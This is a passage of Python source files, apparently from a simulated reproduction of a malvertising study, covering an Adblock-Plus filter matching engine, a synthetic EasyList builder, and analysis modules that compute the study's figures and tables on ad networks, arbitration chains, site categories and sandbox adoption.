        if self._by_shortcut:
            lookup = self._by_shortcut.get
            for token in _TOKEN_RE.findall(url.lower()):
                bucket = lookup(token)
                if bucket:
                    hits.extend(bucket)
        if not hits:
            return [rule for _, rule in self._unindexed]
        hits.extend(self._unindexed)
        hits.sort(key=lambda entry: entry[0])
        # A token repeated in the URL pulls its bucket twice; drop the
        # duplicates (now adjacent) while restoring definition order.
        out: list[FilterRule] = []
        last = -1
        for ordinal, rule in hits:
            if ordinal != last:
                out.append(rule)
                last = ordinal
        return out


