"""ABP matching engine.

Implements the pattern semantics: ``*`` matches any run of characters,
``^`` matches a separator (anything that is not letter/digit/``_-.%``) or
the end of the URL, ``||`` anchors at a (sub)domain boundary, and ``|``
anchors at the start/end of the URL.  Exception rules (``@@``) override
blocking rules, as in Adblock Plus.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.filterlists.parser import parse_filter_list
from repro.filterlists.rules import FilterRule, RequestContext

_SEPARATOR_EXEMPT = set("abcdefghijklmnopqrstuvwxyz0123456789_-.%")


def _is_separator(ch: str) -> bool:
    return ch.lower() not in _SEPARATOR_EXEMPT


def _match_from(pattern: str, url: str, u: int) -> bool:
    """Match ``pattern`` against ``url`` starting at position ``u``."""
    p = 0
    # Backtracking pointers for '*'.
    star_p = -1
    star_u = -1
    while True:
        if p == len(pattern):
            return True
        ch = pattern[p]
        if ch == "*":
            star_p = p
            star_u = u
            p += 1
            continue
        matched = False
        if u < len(url):
            if ch == "^":
                matched = _is_separator(url[u])
            else:
                matched = url[u].lower() == ch
        elif ch == "^" and p == len(pattern) - 1:
            return True  # '^' may match the end of the URL
        if matched:
            p += 1
            u += 1
            continue
        if star_p != -1 and star_u < len(url):
            star_u += 1
            p = star_p + 1
            u = star_u
            continue
        return False


def _pattern_matches(rule: FilterRule, url: str) -> bool:
    lowered = url.lower()
    if rule.anchor_domain:
        # '||' matches at the start of the host or any subdomain boundary.
        scheme_end = lowered.find("://")
        host_start = scheme_end + 3 if scheme_end != -1 else 0
        positions = [host_start]
        host_end = len(lowered)
        for i, ch in enumerate(lowered[host_start:], host_start):
            if ch in "/?#:":
                host_end = i
                break
        for i in range(host_start, host_end):
            if lowered[i] == ".":
                positions.append(i + 1)
        return any(_match_from(rule.pattern, url, pos) and
                   (not rule.anchor_end or _anchored_end(rule, url, pos))
                   for pos in positions)
    if rule.anchor_start:
        return _match_from_anchored(rule, url, 0)
    for start in range(len(url) + 1):
        if _match_from_anchored(rule, url, start):
            return True
    return False


def _match_from_anchored(rule: FilterRule, url: str, start: int) -> bool:
    if not _match_from(rule.pattern, url, start):
        return False
    if rule.anchor_end:
        return _anchored_end(rule, url, start)
    return True


def _anchored_end(rule: FilterRule, url: str, start: int) -> bool:
    """With an end anchor, the pattern must consume the URL to its end."""
    return _match_exact(rule.pattern, url, start)


def _match_exact(pattern: str, url: str, u: int) -> bool:
    """Like :func:`_match_from` but requires consuming the whole URL."""
    p = 0
    star_p = -1
    star_u = -1
    while True:
        if p == len(pattern):
            if u == len(url):
                return True
            if star_p != -1 and star_u < len(url):
                star_u += 1
                p = star_p + 1
                u = star_u
                continue
            return False
        ch = pattern[p]
        if ch == "*":
            star_p = p
            star_u = u
            p += 1
            continue
        matched = False
        if u < len(url):
            if ch == "^":
                matched = _is_separator(url[u])
            else:
                matched = url[u].lower() == ch
        elif ch == "^" and p == len(pattern) - 1:
            p += 1
            continue
        if matched:
            p += 1
            u += 1
            continue
        if star_p != -1 and star_u < len(url):
            star_u += 1
            p = star_p + 1
            u = star_u
            continue
        return False


@dataclass
class MatchResult:
    """Outcome of matching a request against the engine."""

    blocked: bool
    rule: Optional[FilterRule] = None
    exception: Optional[FilterRule] = None


class FilterEngine:
    """A compiled filter list.

    Rules are indexed by a literal "shortcut" substring where possible so
    that matching a URL does not scan every rule (EasyList has tens of
    thousands; ours is smaller but the crawler matches every iframe of
    every page load).
    """

    def __init__(self, rules: list[FilterRule]) -> None:
        self.block_rules = [r for r in rules if not r.is_exception]
        self.exception_rules = [r for r in rules if r.is_exception]
        self._block_index = _ShortcutIndex(self.block_rules)
        self._exception_index = _ShortcutIndex(self.exception_rules)

    @classmethod
    def from_text(cls, text: str) -> "FilterEngine":
        return cls(parse_filter_list(text))

    def match(self, context: RequestContext) -> MatchResult:
        """Decide whether ``context`` is an ad request (would be blocked)."""
        url = str(context.url)
        block = self._find(self._block_index, url, context)
        if block is None:
            return MatchResult(blocked=False)
        exception = self._find(self._exception_index, url, context)
        if exception is not None:
            return MatchResult(blocked=False, rule=block, exception=exception)
        return MatchResult(blocked=True, rule=block)

    def is_ad_url(self, url: str, page_url: Optional[str] = None,
                  resource_type: str = "subdocument") -> bool:
        """Convenience wrapper used by the crawler's iframe classifier."""
        return self.match(RequestContext.for_url(url, page_url, resource_type)).blocked

    def _find(self, index: "_ShortcutIndex", url: str,
              context: RequestContext) -> Optional[FilterRule]:
        for rule in index.candidates(url):
            if not rule.applies_to_type(context.resource_type):
                continue
            if not rule.applies_to_party(context):
                continue
            if not rule.applies_to_page(context):
                continue
            if _pattern_matches(rule, url):
                return rule
        return None

    def __len__(self) -> int:
        return len(self.block_rules) + len(self.exception_rules)


_SHORTCUT_LEN = 6


class _ShortcutIndex:
    """Index rules by a 6-char literal substring of their pattern."""

    def __init__(self, rules: list[FilterRule]) -> None:
        self._by_shortcut: dict[str, list[FilterRule]] = {}
        self._unindexed: list[FilterRule] = []
        for rule in rules:
            shortcut = self._pick_shortcut(rule.pattern)
            if shortcut is None:
                self._unindexed.append(rule)
            else:
                self._by_shortcut.setdefault(shortcut, []).append(rule)

    @staticmethod
    def _pick_shortcut(pattern: str) -> Optional[str]:
        best: Optional[str] = None
        for run in _literal_runs(pattern):
            if len(run) >= _SHORTCUT_LEN and (best is None or len(run) > len(best)):
                best = run
        if best is None:
            return None
        return best[:_SHORTCUT_LEN]

    def candidates(self, url: str) -> list[FilterRule]:
        lowered = url.lower()
        found = list(self._unindexed)
        for shortcut, rules in self._by_shortcut.items():
            if shortcut in lowered:
                found.extend(rules)
        return found


def _literal_runs(pattern: str) -> list[str]:
    runs: list[str] = []
    current: list[str] = []
    for ch in pattern:
        if ch in "*^|":
            if current:
                runs.append("".join(current))
                current = []
        else:
            current.append(ch)
    if current:
        runs.append("".join(current))
    return runs
