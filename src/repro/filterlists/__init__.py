"""Adblock-Plus-style filter lists.

The paper distinguished advertisement iframes from other iframes using
EasyList, the filter list behind Adblock Plus.  This package implements the
ABP filter syntax (blocking rules, ``@@`` exceptions, ``||`` domain
anchors, ``^`` separators, ``*`` wildcards, and the common ``$`` options)
and a matching engine, plus a builder that produces the synulated web's own
"EasyList" from the ad hosts the ad-network simulator registers.
"""

from repro.filterlists.easylist import build_easylist
from repro.filterlists.matcher import FilterEngine, MatchResult
from repro.filterlists.parser import parse_filter_list, parse_rule
from repro.filterlists.rules import FilterRule, RequestContext

__all__ = [
    "FilterEngine",
    "FilterRule",
    "MatchResult",
    "RequestContext",
    "build_easylist",
    "parse_filter_list",
    "parse_rule",
]
