"""Synthetic EasyList builder.

The real EasyList is a community-maintained set of URL patterns for
ad-serving hosts and paths.  The simulated equivalent is generated from the
ad networks that exist in the simulated world: domain-anchored rules for
each ad-serving domain, a handful of generic path rules (``/adserve/``,
``/banner/`` ...), and realistic exception rules — plus deliberate *gaps*
(the ``coverage`` parameter) because real lists lag behind new ad hosts,
and the paper's pipeline has to live with that.
"""

from __future__ import annotations

from typing import Iterable, Sequence

from repro.util.rand import fork

HEADER = "[Adblock Plus 2.0]\n! Synthetic EasyList for the simulated web\n"

# Generic path fragments ad servers in the simulation use.
GENERIC_PATH_RULES = (
    "/adserve/*$subdocument",
    "/adframe/*$subdocument",
    "/banners/*",
    "/adimg/*$image",
    "/adjs/*$script",
    "||*/ad-tags/*$third-party",
)


def build_easylist(
    ad_domains: Sequence[str],
    seed: int = 0,
    coverage: float = 1.0,
    extra_rules: Iterable[str] = (),
) -> str:
    """Build the synthetic EasyList text.

    ``coverage`` < 1.0 drops a deterministic fraction of the domain rules,
    modelling the list's blind spots for fresh ad domains.
    """
    if not 0.0 <= coverage <= 1.0:
        raise ValueError("coverage must be within [0, 1]")
    rand = fork(seed, "easylist")
    lines = [HEADER]
    lines.append("! --- generic path rules ---")
    lines.extend(GENERIC_PATH_RULES)
    lines.append("! --- ad-serving domains ---")
    for domain in sorted(set(ad_domains)):
        if rand.random() < coverage:
            lines.append(f"||{domain}^$subdocument,script,image,object")
    lines.append("! --- exceptions ---")
    lines.append("@@||*/advertising-policy/*$document")
    lines.extend(extra_rules)
    return "\n".join(lines) + "\n"
