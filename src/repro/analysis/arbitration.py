"""Figure 5: arbitration-chain analysis (§4.3).

From the observed redirect chains the analysis derives, for benign and
malicious advertisements separately: the chain-length histograms, the
fraction of long chains, whether networks repeatedly re-buy the same slot,
and the tier composition of late auctions (the paper found that late
auctions happen only among malvertising-implicated networks).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

from repro.core.results import StudyResults


@dataclass
class ArbitrationAnalysis:
    """The data behind Figure 5 and the §4.3 observations."""

    benign_lengths: Counter
    malicious_lengths: Counter
    repeat_participation_impressions: int   # chains where one network bought twice+
    late_hop_networks: Counter              # serving networks at hops > 10
    early_hop_networks: Counter             # networks at hops <= 3

    @property
    def max_benign_length(self) -> int:
        return max(self.benign_lengths, default=0)

    @property
    def max_malicious_length(self) -> int:
        return max(self.malicious_lengths, default=0)

    def fraction_longer_than(self, length: int, malicious: bool = True) -> float:
        counter = self.malicious_lengths if malicious else self.benign_lengths
        total = sum(counter.values())
        if total == 0:
            return 0.0
        return sum(v for k, v in counter.items() if k > length) / total

    def mean_length(self, malicious: bool = True) -> float:
        counter = self.malicious_lengths if malicious else self.benign_lengths
        total = sum(counter.values())
        if total == 0:
            return 0.0
        return sum(k * v for k, v in counter.items()) / total

    def render(self) -> str:
        lines = ["Figure 5: arbitration chain lengths (impressions)"]
        lines.append("  len   benign  malicious")
        max_len = max(self.max_benign_length, self.max_malicious_length)
        for length in range(1, max_len + 1):
            lines.append(f"  {length:>3}  {self.benign_lengths.get(length, 0):>7}"
                         f"  {self.malicious_lengths.get(length, 0):>9}")
        lines.append(f"  max benign {self.max_benign_length} (paper ~15); "
                     f"max malicious {self.max_malicious_length} (paper ~30)")
        lines.append(f"  malicious chains >15 auctions: "
                     f"{self.fraction_longer_than(15):.1%} (paper ~2%)")
        return "\n".join(lines)


def analyze_arbitration(results: StudyResults) -> ArbitrationAnalysis:
    """Derive the Figure 5 statistics from the observed chains."""
    ecosystem = results.world.ecosystem
    benign_lengths: Counter = Counter()
    malicious_lengths: Counter = Counter()
    repeats = 0
    late: Counter = Counter()
    early: Counter = Counter()
    for record, verdict in results.iter_with_verdicts():
        target = malicious_lengths if verdict.is_malicious else benign_lengths
        for impression in record.impressions:
            length = impression.chain_length
            if length == 0:
                continue
            target[length] += 1
            domains = impression.chain_domains
            if len(set(domains)) < len(domains):
                repeats += 1
            for hop, domain in enumerate(domains):
                network = ecosystem.network_for_domain(domain)
                if network is None:
                    continue
                if hop > 10:
                    late[network.tier] += 1
                elif hop <= 3:
                    early[network.tier] += 1
    return ArbitrationAnalysis(
        benign_lengths=benign_lengths,
        malicious_lengths=malicious_lengths,
        repeat_participation_impressions=repeats,
        late_hop_networks=late,
        early_hop_networks=early,
    )
