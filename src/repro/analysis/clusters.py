"""§4.2 cluster analysis: top-ranked vs bottom-ranked vs other sites.

The paper split its crawl set into the Alexa top-10,000 slice, the
bottom-10,000 slice, and everything else, then measured each cluster's
share of malvertisements (82.3% / 6.2% / 11.5%) against its share of all
advertisements (76.6% / 11.6% / 11.8%) — concluding miscreants chase
total impressions, not particular sites.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.results import StudyResults

TOP = "top"
BOTTOM = "bottom"
OTHER = "other"
CLUSTERS = (TOP, BOTTOM, OTHER)

PAPER_MALICIOUS_SHARES = {TOP: 0.823, BOTTOM: 0.062, OTHER: 0.115}
PAPER_TOTAL_SHARES = {TOP: 0.766, BOTTOM: 0.116, OTHER: 0.118}


@dataclass
class ClusterShares:
    """Observed per-cluster shares."""

    malicious_impressions: dict[str, int]
    total_impressions: dict[str, int]

    def malicious_share(self, cluster: str) -> float:
        total = sum(self.malicious_impressions.values())
        if total == 0:
            return 0.0
        return self.malicious_impressions[cluster] / total

    def total_share(self, cluster: str) -> float:
        total = sum(self.total_impressions.values())
        if total == 0:
            return 0.0
        return self.total_impressions[cluster] / total

    def render(self) -> str:
        lines = [f"{'cluster':<10}{'malvertising':>14}{'paper':>8}"
                 f"{'all ads':>10}{'paper':>8}"]
        for cluster in CLUSTERS:
            lines.append(
                f"{cluster:<10}{self.malicious_share(cluster):>13.1%}"
                f"{PAPER_MALICIOUS_SHARES[cluster]:>8.1%}"
                f"{self.total_share(cluster):>9.1%}"
                f"{PAPER_TOTAL_SHARES[cluster]:>8.1%}"
            )
        return "\n".join(lines)


def cluster_of(rank: int, top_threshold: int, total_rank_space: int) -> str:
    """Which cluster a site of the given rank belongs to."""
    if rank <= top_threshold:
        return TOP
    if rank > total_rank_space - top_threshold:
        return BOTTOM
    return OTHER


def analyze_clusters(results: StudyResults) -> ClusterShares:
    """Compute per-cluster malvertising and total-ad shares."""
    world = results.world
    top_threshold = world.params.top_cluster_rank
    rank_space = world.params.total_rank_space
    malicious = {c: 0 for c in CLUSTERS}
    total = {c: 0 for c in CLUSTERS}
    for record, verdict in results.iter_with_verdicts():
        for impression in record.impressions:
            publisher = world.publisher_by_domain(impression.site_domain)
            if publisher is None:
                continue
            cluster = cluster_of(publisher.rank, top_threshold, rank_space)
            total[cluster] += 1
            if verdict.is_malicious:
                malicious[cluster] += 1
    return ClusterShares(malicious_impressions=malicious, total_impressions=total)
