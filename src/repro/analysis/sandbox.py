"""§4.4: the iframe ``sandbox`` audit.

The paper checked whether publishers protect their visitors by putting the
HTML5 ``sandbox`` attribute on advertisement iframes (which would defeat
``top.location`` hijacking).  None of the crawled sites did.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.results import StudyResults


@dataclass
class SandboxAudit:
    """Outcome of the sandbox-attribute audit."""

    sites_serving_ads: int
    sites_using_sandbox: int
    sandboxed_ad_iframes: int
    total_ad_iframes: int

    @property
    def adoption_rate(self) -> float:
        if self.sites_serving_ads == 0:
            return 0.0
        return self.sites_using_sandbox / self.sites_serving_ads

    def render(self) -> str:
        return (
            f"Sandbox audit (§4.4): {self.sites_using_sandbox} of "
            f"{self.sites_serving_ads} ad-serving sites sandbox their ad "
            f"iframes ({self.adoption_rate:.1%}; paper: 0); "
            f"{self.sandboxed_ad_iframes}/{self.total_ad_iframes} ad iframes sandboxed"
        )


def audit_sandbox_usage(results: StudyResults) -> SandboxAudit:
    """Audit sandbox-attribute adoption from crawl statistics."""
    stats = results.crawl_stats
    return SandboxAudit(
        sites_serving_ads=len(stats.sites_with_ads),
        sites_using_sandbox=len(stats.sites_using_sandbox),
        sandboxed_ad_iframes=stats.sandboxed_ad_iframes,
        total_ad_iframes=stats.ad_iframes,
    )
