"""Figures 1 and 2: per-ad-network malvertising ratios and volume shares.

Attribution works the way the paper's did: every unique ad is attributed to
the network(s) whose domains were observed *serving the creative* (the last
auction hop).  Ad-company domains are public knowledge, so mapping a
serving domain to a network identity is legitimate observed data, not
ground truth.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.results import StudyResults


@dataclass
class NetworkStats:
    """Observed serving statistics for one ad network."""

    name: str
    tier: str
    ads_served: int            # unique ads attributed to this network
    malicious_served: int      # unique malicious ads
    impressions: int           # impression-level volume
    malicious_impressions: int = 0

    @property
    def malicious_ratio(self) -> float:
        """Figure 1's metric: the malvertising share of the network's
        traffic (impressions)."""
        if self.impressions == 0:
            return 0.0
        return self.malicious_impressions / self.impressions

    @property
    def unique_ad_ratio(self) -> float:
        """Alternative metric: malvertising share of unique ads served."""
        if self.ads_served == 0:
            return 0.0
        return self.malicious_served / self.ads_served


@dataclass
class NetworkAnalysis:
    """The data behind Figures 1 and 2."""

    stats: list[NetworkStats]  # sorted by malicious ratio, descending
    total_impressions: int

    def with_malvertising(self) -> list[NetworkStats]:
        """Figure 1 shows only networks with at least one malvertisement."""
        return [s for s in self.stats if s.malicious_served > 0]

    def volume_share(self, stat: NetworkStats) -> float:
        """Figure 2: the network's share of all served impressions."""
        if self.total_impressions == 0:
            return 0.0
        return stat.impressions / self.total_impressions

    def render_figure1(self) -> str:
        lines = ["Figure 1: malvertising share of each network's traffic (desc)"]
        for stat in self.with_malvertising():
            bar = "#" * int(stat.malicious_ratio * 40)
            lines.append(f"  {stat.name:<18}{stat.malicious_ratio:7.1%} "
                         f"({stat.malicious_impressions}/{stat.impressions} imps, "
                         f"{stat.malicious_served}/{stat.ads_served} ads) {bar}")
        return "\n".join(lines)

    def render_figure2(self) -> str:
        lines = ["Figure 2: share of total ad volume (same networks as Fig. 1)"]
        for stat in self.with_malvertising():
            share = self.volume_share(stat)
            bar = "#" * int(share * 200)
            lines.append(f"  {stat.name:<18}{share:7.2%} "
                         f"({stat.impressions} impressions) {bar}")
        return "\n".join(lines)


def analyze_networks(results: StudyResults) -> NetworkAnalysis:
    """Group unique ads and impressions by serving network."""
    ecosystem = results.world.ecosystem
    per_network: dict[str, NetworkStats] = {}

    def stats_for(domain: str) -> NetworkStats | None:
        network = ecosystem.network_for_domain(domain)
        if network is None:
            return None
        stat = per_network.get(network.name)
        if stat is None:
            stat = NetworkStats(network.name, network.tier, 0, 0, 0)
            per_network[network.name] = stat
        return stat

    total_impressions = 0
    for record, verdict in results.iter_with_verdicts():
        attributed: set[str] = set()
        for impression in record.impressions:
            total_impressions += 1
            stat = stats_for(impression.serving_domain)
            if stat is None:
                continue
            stat.impressions += 1
            if verdict.is_malicious:
                stat.malicious_impressions += 1
            attributed.add(stat.name)
        for name in attributed:
            per_network[name].ads_served += 1
            if verdict.is_malicious:
                per_network[name].malicious_served += 1

    # Final name tie-break keeps fully tied networks in a byte-stable
    # order under hash randomization.
    ordered = sorted(per_network.values(),
                     key=lambda s: (-s.malicious_ratio, -s.malicious_served,
                                    s.name))
    return NetworkAnalysis(stats=ordered, total_impressions=total_impressions)
