"""Cross-network campaign overlap.

§5.1's shared-blacklist proposal exists because "attackers ... submit their
malvertisements to a different network if they get rejected from a former
one".  This analysis measures the resulting spread from the observed data:
across how many distinct ad networks was each malicious advertisement seen
being served?
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.results import StudyResults


@dataclass
class OverlapStats:
    """Distribution of per-ad network spread."""

    malicious_spread: dict[str, int]   # ad_id -> distinct serving networks
    benign_spread: dict[str, int]

    @staticmethod
    def _mean(spread: dict[str, int]) -> float:
        if not spread:
            return 0.0
        return sum(spread.values()) / len(spread)

    @property
    def mean_malicious_spread(self) -> float:
        return self._mean(self.malicious_spread)

    @property
    def mean_benign_spread(self) -> float:
        return self._mean(self.benign_spread)

    @property
    def multi_network_malicious(self) -> int:
        """Malicious ads observed being served by 2+ distinct networks."""
        return sum(1 for n in self.malicious_spread.values() if n >= 2)

    def render(self) -> str:
        return (
            "cross-network spread: malicious ads served by "
            f"{self.mean_malicious_spread:.1f} networks on average "
            f"(benign: {self.mean_benign_spread:.1f}); "
            f"{self.multi_network_malicious}/{len(self.malicious_spread)} "
            "malicious ads appeared on 2+ networks — the resubmission "
            "behaviour §5.1's shared blacklist targets"
        )


def analyze_overlap(results: StudyResults) -> OverlapStats:
    """Count distinct serving networks per unique ad."""
    ecosystem = results.world.ecosystem
    malicious: dict[str, int] = {}
    benign: dict[str, int] = {}
    for record, verdict in results.iter_with_verdicts():
        networks = set()
        for impression in record.impressions:
            network = ecosystem.network_for_domain(impression.serving_domain)
            if network is not None:
                networks.add(network.network_id)
        target = malicious if verdict.is_malicious else benign
        target[record.ad_id] = len(networks)
    return OverlapStats(malicious_spread=malicious, benign_spread=benign)
