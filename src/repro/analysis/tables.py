"""Table 1: classification of malvertisements by detection source."""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.incidents import INCIDENT_LABELS, INCIDENT_TYPES, PAPER_TABLE1
from repro.core.results import StudyResults


@dataclass
class Table1:
    """The reproduced Table 1."""

    counts: dict[str, int]
    total_incidents: int
    corpus_size: int

    @property
    def malicious_fraction(self) -> float:
        if self.corpus_size == 0:
            return 0.0
        return self.total_incidents / self.corpus_size

    def shares(self) -> dict[str, float]:
        """Each bucket's share of all incidents."""
        if self.total_incidents == 0:
            return {k: 0.0 for k in self.counts}
        return {k: v / self.total_incidents for k, v in self.counts.items()}

    def render(self) -> str:
        """Render rows like the paper's table, with paper values alongside."""
        lines = [f"{'Type of maliciousness':<28}{'#Incidents':>12}{'paper':>10}"]
        paper_total = sum(PAPER_TABLE1.values())
        for incident_type in INCIDENT_TYPES:
            label = INCIDENT_LABELS[incident_type]
            count = self.counts.get(incident_type, 0)
            share = count / self.total_incidents if self.total_incidents else 0.0
            paper_share = PAPER_TABLE1[incident_type] / paper_total
            lines.append(
                f"{label:<28}{count:>12}{PAPER_TABLE1[incident_type]:>10}"
                f"   ({share:6.1%} vs {paper_share:6.1%})"
            )
        lines.append(
            f"{'Total':<28}{self.total_incidents:>12}{paper_total:>10}"
            f"   (corpus {self.corpus_size}; {self.malicious_fraction:.2%} malicious)"
        )
        return "\n".join(lines)


def build_table1(results: StudyResults) -> Table1:
    """Classify every incident into the Table 1 buckets."""
    counts = {incident_type: 0 for incident_type in INCIDENT_TYPES}
    for verdict in results.verdicts.values():
        incident_type = verdict.incident_type
        if incident_type is not None:
            counts[incident_type] += 1
    return Table1(
        counts=counts,
        total_incidents=sum(counts.values()),
        corpus_size=results.corpus.unique_ads,
    )
