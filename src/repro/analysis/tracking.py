"""Third-party tracking measurement.

Not a paper figure, but the ad-measurement context the paper sits in
(Gill et al.'s economics work, Guha et al.'s measurement challenges): ad
networks identify browsers across publishers with third-party ``uid``
cookies.  Given a crawl performed with a cookie jar attached, this module
reports which networks could track the crawler across how many sites.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.browser.har import HarLog
from repro.web.cookies import CookieJar


@dataclass
class TrackerStats:
    """One tracking domain's observed reach."""

    domain: str
    n_cookies: int
    sites_seen_from: set[str]

    @property
    def reach(self) -> int:
        return len(self.sites_seen_from)


@dataclass
class TrackingReport:
    """Cross-site tracking summary for one crawl session."""

    trackers: list[TrackerStats]
    sites_crawled: int

    def top_trackers(self, n: int = 10) -> list[TrackerStats]:
        # Equal reach tie-breaks on the domain for byte-stable tables.
        return sorted(self.trackers, key=lambda t: (-t.reach, t.domain))[:n]

    def render(self) -> str:
        lines = [f"tracking: {len(self.trackers)} cookie-setting domains "
                 f"across {self.sites_crawled} crawled sites"]
        for tracker in self.top_trackers():
            lines.append(f"  {tracker.domain:<28} reach {tracker.reach}"
                         f"/{self.sites_crawled} sites")
        return "\n".join(lines)


def measure_tracking(jar: CookieJar, referer_log: dict[str, set[str]],
                     sites_crawled: int) -> TrackingReport:
    """Build the report from a session jar and a domain→sites map.

    ``referer_log`` maps each third-party domain to the set of first-party
    sites from which it was contacted (derivable from HAR referers).
    """
    trackers = []
    for domain in sorted(jar.domains()):
        cookies = [c for c in jar.cookies_for_domain(domain)]
        trackers.append(TrackerStats(
            domain=domain,
            n_cookies=len(cookies),
            sites_seen_from=set(referer_log.get(domain, set())),
        ))
    return TrackingReport(trackers=trackers, sites_crawled=sites_crawled)


def referer_map_from_har(har: HarLog) -> dict[str, set[str]]:
    """Derive the third-party-domain → first-party-sites map from traffic."""
    from repro.web.url import UrlError, etld_plus_one, parse_url

    mapping: dict[str, set[str]] = {}
    for entry in har.entries:
        if entry.referer is None:
            continue
        try:
            first_party = etld_plus_one(parse_url(entry.referer).host)
        except UrlError:
            continue
        third_party = entry.registered_domain
        if third_party == first_party:
            continue
        mapping.setdefault(third_party, set()).add(first_party)
    return mapping
