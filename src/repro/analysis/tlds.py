"""Figure 4: malvertising distribution across top-level domains.

The paper found .com dominating the malvertising-serving sites, and generic
TLDs (mainly .com and .net) together carrying more than 66% of malvertising
traffic — suggesting malvertising primarily targets US audiences.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.results import StudyResults
from repro.datasets.categories import GENERIC_TLDS


@dataclass
class TldBreakdown:
    """TLD mix of malvertising-serving sites."""

    counts: dict[str, int]

    @property
    def total(self) -> int:
        return sum(self.counts.values())

    def share(self, tld: str) -> float:
        if self.total == 0:
            return 0.0
        return self.counts.get(tld, 0) / self.total

    @property
    def generic_share(self) -> float:
        """Combined share of the generic TLDs (.com/.net/.org/.info/.biz)."""
        return sum(self.share(tld) for tld in GENERIC_TLDS)

    def ranked(self) -> list[tuple[str, int]]:
        # Equal counts tie-break on the TLD, so rendered tables are
        # byte-stable under hash randomization.
        return sorted(self.counts.items(), key=lambda kv: (-kv[1], kv[0]))

    def render(self) -> str:
        lines = ["Figure 4: TLDs of sites serving malvertisements"]
        for tld, count in self.ranked():
            share = count / self.total if self.total else 0.0
            lines.append(f"  .{tld:<8}{count:>5}  {share:6.1%} {'#' * int(share * 60)}")
        lines.append(f"  generic TLD share: {self.generic_share:.1%} (paper: >66%)")
        return "\n".join(lines)


def tld_distribution(results: StudyResults) -> TldBreakdown:
    """Count malvertising-serving sites per TLD (each site once)."""
    sites: set[str] = set()
    for record in results.malicious_records():
        sites.update(record.publisher_domains)
    counts: dict[str, int] = {}
    for domain in sites:
        tld = domain.rsplit(".", 1)[-1]
        counts[tld] = counts.get(tld, 0) + 1
    return TldBreakdown(counts=counts)
