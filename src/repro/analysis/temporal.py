"""Temporal analysis of a longitudinal run.

Shows the arms race the NX-redirect heuristic feeds on: takedowns remove
observed malicious infrastructure, campaigns rotate, broken references pile
up in between, and blacklists lag the rotation.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Sequence

from repro.adnet.takedowns import TakedownAuthority
from repro.core.longitudinal import DayStats


@dataclass
class TemporalSummary:
    """Aggregates across a longitudinal run."""

    days: int
    total_takedowns: int
    total_rotations: int
    nx_events_by_day: list[int]
    takedowns_by_day: list[int]
    new_ads_by_day: list[int]

    @property
    def nx_events_total(self) -> int:
        return sum(self.nx_events_by_day)

    def nx_rate_after_first_takedown(self) -> float:
        """Mean daily NX events after takedowns begin vs before."""
        first = next((i for i, t in enumerate(self.takedowns_by_day) if t > 0), None)
        if first is None or first == 0:
            return 0.0
        before = self.nx_events_by_day[:first]
        after = self.nx_events_by_day[first:]
        mean_before = sum(before) / len(before) if before else 0.0
        mean_after = sum(after) / len(after) if after else 0.0
        if mean_before == 0:
            return float(mean_after > 0)
        return mean_after / mean_before

    def render(self) -> str:
        lines = ["temporal analysis (longitudinal run):",
                 "  day  new_ads  nx_events  takedowns"]
        for day in range(self.days):
            lines.append(f"  {day:>3}  {self.new_ads_by_day[day]:>7}"
                         f"  {self.nx_events_by_day[day]:>9}"
                         f"  {self.takedowns_by_day[day]:>9}")
        lines.append(f"  total: {self.total_takedowns} takedowns, "
                     f"{self.total_rotations} rotations, "
                     f"{self.nx_events_total} NX events")
        return "\n".join(lines)


def summarize_run(day_stats: Sequence[DayStats],
                  authority: TakedownAuthority) -> TemporalSummary:
    """Build the temporal summary from a finished longitudinal run."""
    return TemporalSummary(
        days=len(day_stats),
        total_takedowns=len(authority.takedowns),
        total_rotations=sum(1 for e in authority.takedowns if e.rotated_to),
        nx_events_by_day=[s.nx_redirect_events for s in day_stats],
        takedowns_by_day=[s.takedowns for s in day_stats],
        new_ads_by_day=[s.new_unique_ads for s in day_stats],
    )
