"""Figure 3: categorisation of websites that served malvertisements.

The paper clustered the malvertising-serving sites into content categories:
entertainment and news together made up roughly a third, with adult content
ranked third — contradicting earlier work that tied adult content to
elevated maliciousness.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.results import StudyResults


@dataclass
class CategoryBreakdown:
    """Category mix of malvertising-serving sites."""

    counts: dict[str, int]

    @property
    def total(self) -> int:
        return sum(self.counts.values())

    def shares(self) -> dict[str, float]:
        if self.total == 0:
            return {}
        return {k: v / self.total for k, v in self.ranked()}

    def ranked(self) -> list[tuple[str, int]]:
        # Equal counts tie-break on the category name, so rendered tables
        # are byte-stable under hash randomization.
        return sorted(self.counts.items(), key=lambda kv: (-kv[1], kv[0]))

    def render(self) -> str:
        lines = ["Figure 3: categories of sites serving malvertisements"]
        for category, count in self.ranked():
            share = count / self.total if self.total else 0.0
            lines.append(f"  {category:<16}{count:>5}  {share:6.1%} {'#' * int(share * 60)}")
        return "\n".join(lines)


def categorize_malvertising_sites(results: StudyResults) -> CategoryBreakdown:
    """Count malvertising-serving sites per category (each site once)."""
    world = results.world
    sites: set[str] = set()
    for record in results.malicious_records():
        sites.update(record.publisher_domains)
    counts: dict[str, int] = {}
    for domain in sites:
        publisher = world.publisher_by_domain(domain)
        if publisher is None:
            continue
        counts[publisher.category] = counts.get(publisher.category, 0) + 1
    return CategoryBreakdown(counts=counts)
