"""Publisher exposure analysis (the paper's contribution #3).

"We demonstrate that due to the arbitration process, every website that
serves advertisements and that does not have an exclusive agreement with
the advertiser is a potential publisher of malicious advertisements."

This module measures exactly that: how many publishers displayed at least
one malvertisement, split by the tier of their *primary* network — showing
that delegating to a reputable major exchange does not protect a site,
because its slots get resold downmarket.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.adnet.entities import NetworkTier
from repro.core.results import StudyResults


@dataclass
class TierExposure:
    """Exposure numbers for publishers of one primary-network tier."""

    tier: str
    publishers_crawled: int = 0
    publishers_exposed: int = 0

    @property
    def exposure_rate(self) -> float:
        if self.publishers_crawled == 0:
            return 0.0
        return self.publishers_exposed / self.publishers_crawled


@dataclass
class ExposureReport:
